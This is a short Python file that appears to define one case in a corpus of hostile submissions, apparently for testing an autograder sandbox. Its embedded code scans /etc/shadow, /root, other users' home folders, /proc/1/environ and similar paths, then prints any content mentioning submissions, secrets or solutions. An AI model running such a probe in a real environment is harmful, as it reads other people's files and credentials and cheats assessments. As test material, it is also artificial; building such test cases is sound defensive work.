"""Reads the class's folder, the course's solutions and other people's homes."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import glob
import os

for path in ("/etc/shadow", "/etc/hostname", "/root", "/home/*/*", "/var/*", "/srv/*",
             "/tmp/*", "/run/*", "/proc/1/environ", "/proc/1/root/*", "/mnt/*",
             "/sys/*"):
    for found in glob.glob(path):
        try:
            if os.path.isdir(found):
                text = " ".join(os.listdir(found))
            else:
                text = open(found, errors="replace").read()
        except OSError:
            continue
        if "submitted" in text or "SECRET-" in text or "solutions" in text:
            print("REACHED", found, text[:500])
print("TRIED")
"""
    },
    tried=True,
    often=True,
)
